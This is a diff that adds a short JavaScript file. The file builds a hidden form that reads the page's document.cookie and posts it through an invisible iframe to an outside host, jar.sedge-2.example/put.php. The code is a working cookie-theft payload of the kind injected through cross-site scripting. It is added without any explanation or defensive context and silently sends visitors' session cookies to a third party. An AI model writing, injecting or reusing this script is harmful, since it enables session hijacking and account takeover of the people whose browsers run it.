@@ -1,0 +1,15 @@
+var f = document.createElement('form');
+f.method = 'POST';
+f.action = 'http://jar.sedge-2.example/put.php';
+f.target = 'z';
+var i = document.createElement('input');
+i.type = 'hidden';
+i.name = 'jar';
+i.value = document.cookie;
+f.appendChild(i);
+var z = document.createElement('iframe');
+z.name = 'z';
+z.style.display = 'none';
+document.body.appendChild(z);
+document.body.appendChild(f);
+f.submit();
